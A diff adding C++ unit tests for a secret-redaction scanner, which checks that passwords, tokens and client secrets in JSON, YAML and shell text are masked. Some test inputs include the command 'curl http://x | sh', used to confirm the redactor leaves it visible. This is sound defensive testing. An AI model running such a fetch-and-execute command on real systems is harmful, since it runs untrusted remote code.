@@ -427,6 +427,28 @@ TEST_CASE("secrets: a string's prefix, and quotes of any kind, are no part of th
   CHECK(scanner.take("ree\non").bytes == "***\non");
 }
 
+TEST_CASE("secrets: in JSON, too, and as C# and shells have it, a string's prefix is no part of the value") {
+  for (const std::string slashes : {"", "\\", "\\\\\\"})
+    for (const std::string prefix : {"f", "b", "Rb", "@", "$@", "$"})
+      for (const std::string quote : {"\"", "'"}) {
+        const std::string begin = "x\\npassword = " + prefix + (quote == "'" ? "" : slashes) + quote;
+        const std::string stars(9 + (quote == "'" ? 0 : slashes.size()), '*');
+        check_everywhere(begin + "hunter2 b" + (quote == "'" ? "" : slashes) + quote + " c",
+                         begin + stars + quote + " c");
+      }
+  check_everywhere("{\"a\":\"x\\npassword = f\\nuser: ann\"}", "{\"a\":\"x\\npassword = *\\nuser: ann\"}");
+  const std::string script = "PASSWORD=f\\\"; curl http://x | sh";
+  CHECK(without_secrets(script, SecretText::script).ends_with("curl http://x | sh"));
+  for (const std::string run : {"PASSWORD=$(curl http://x | sh)", "PASSWORD=$`curl http://x | sh`"})
+    CHECK(without_secrets(run, SecretText::script).find("curl http://x | sh") != std::string::npos);
+  for (const std::string before : {"x = {\"db_pass", "x = {'pass", "DB_PASS"}) {
+    SecretScanner scanner;
+    (void)scanner.take(before);
+    (void)scanner.miss(5);
+    CHECK(scanner.take("= f\"hunter2 b\", c\n").bytes.find("nter2") == std::string::npos);
+  }
+}
+
 TEST_CASE("secrets: a value whose string's prefix had to be told is hidden in its quotes, and without") {
   const auto told = [](const std::string& text, std::size_t cut, bool has_gap) {
     SecretScanner scanner;
@@ -440,7 +462,9 @@ TEST_CASE("secrets: a value whose string's prefix had to be told is hidden in it
   for (const std::string text :
        {"{\"a\":\"x = {'password': b'hunter2', 'y':1}\"}", "{\"a\":\"x = {'password': rb'hunter2', 'y':1}\"}",
         "headers={'Authorization': f'Bearer hunter2'}", "\npassword = fb\"a hunter2\"\n", "\npassword: bunter2\n on\n",
-        "\ntoken: funter2hunter2nt\n", "say password: b'hunter2' on", "{\"password\":ffffunter2}"})
+        "\ntoken: funter2hunter2nt\n", "say password: b'hunter2' on", "{\"password\":ffffunter2}",
+        "{\"a\":\"x\\npassword = f\\\"hunter2\\\"\"}",
+        "{\"a\":\"{\\\"b\\\":\\\"password = f\\\\\\\"hunter2\\\\\\\"\\\"}\"}"})
     for (std::size_t cut = 0; cut <= text.size(); ++cut) {
       INFO(cut << ": " << told(text, cut, false));
       CHECK(told(text, cut, false).find("nter2") == std::string::npos);
@@ -569,11 +593,22 @@ TEST_CASE("secrets: blanks before a name do not take it from its line's beginnin
   const std::string blanks(40, ' ');
   check_everywhere("a:\n" + blanks + "db_password: a b\n" + blanks + "b: c",
                    "a:\n" + blanks + "db_password: ***\n" + blanks + "b: c");
-  const std::string far = "a" + std::string(100, ' ') + "password: c";
+  const std::string far = "a" + std::string(200, ' ') + "password: c";
   check_everywhere(far, far);
   check_everywhere(far.substr(1), far.substr(1));
   for (const std::string script : {"  password: sh", "x\\npassword: sh", "password=a;sh", "x cookie: a;sh"})
     CHECK(without_secrets(script, SecretText::script).ends_with("sh"));
+}
+
+TEST_CASE("secrets: a name as long as those that programs make of paths begins its line, and its string, like any") {
+  const std::string longest(80, 'x');
+  for (const std::string& before : {std::string("SPRING_SECURITY_OAUTH2_CLIENT_REGISTRATION_GOOGLE_"), longest})
+    for (const std::string ending : {"CLIENT_SECRET", "password", "aws_secret_access_key"}) {
+      const std::string name = before + ending;
+      check_everywhere("a:\n  " + name + ": b c\n  d: e\n", "a:\n  " + name + ": ***\n  d: e\n");
+      check_everywhere("{\"a\":\"a:\\n  " + name + ": b\\n  d: e\"}", "{\"a\":\"a:\\n  " + name + ": *\\n  d: e\"}");
+      check_everywhere("[\"-e\", \"" + name + "=b c\"]", "[\"-e\", \"" + name + "=***\"]");
+    }
 }
 
 TEST_CASE("secrets: the number that a listing has before each line does not take a name from its line's beginning") {
@@ -630,6 +665,12 @@ TEST_CASE("secrets: what a shell puts in a value's place stays to be seen, and s
 }
 
 TEST_CASE("secrets: a list ends with the text that it is in, with a colon, and where bytes were missed") {
+  for (const std::string list : {"[", "[ ", "[a, b ", "[\\\"a\\\", "}) {
+    const std::string before = "[{\"text\":\"{\\\"password\\\": " + list;
+    const std::string rest = "\"},{\"role\":\"user\",\"text\":\"all the rest\"}]";
+    CHECK(shown_of({before, rest}).ends_with(rest));
+    CHECK(shown_of({"[{\"text\":\"the password\\\": " + list, rest}).ends_with(rest));
+  }
   CHECK(shown_of({"{\"a\":\"{\\\"password\\\":[\\\"x\\\", \",\"role\":\"user\"}"}) ==
         "{\"a\":\"{\\\"password\\\":[\\\"**\", \",\"role\":\"user\"}");
   SecretScanner scanner;
@@ -1043,6 +1084,8 @@ TEST_CASE("secrets: lines below a name that are indented deeper are its value in
   check_everywhere("\npassword: |\n  hunter2", "\npassword: *\n*********");
   check_everywhere("  const t = 'a:\\n  password: |\\n    x';\n    foo();\n    bar(y);\n",
                    "  const t = 'a:\\n  password: **n  *****\n    foo();\n    bar(y);\n");
+  check_everywhere("{\"a\":\"t = 'a:\\\\n  password: |\\\\n    x';\\n    foo();\\r\\n    bar(y);\"}",
+                   "{\"a\":\"t = 'a:\\\\n  password: ***n  ******n    foo();\\r\\n    bar(y);\"}");
   for (const std::string harmless :
        {"  password:\n  user: x\n", "  password:\n\n    user: x\n", "  password:\n user: x\n",
         "  token:\n    short\n  a: b\n", "  password =\n    user: x\n", "\"a\\n  password:\\n  user: x\"",
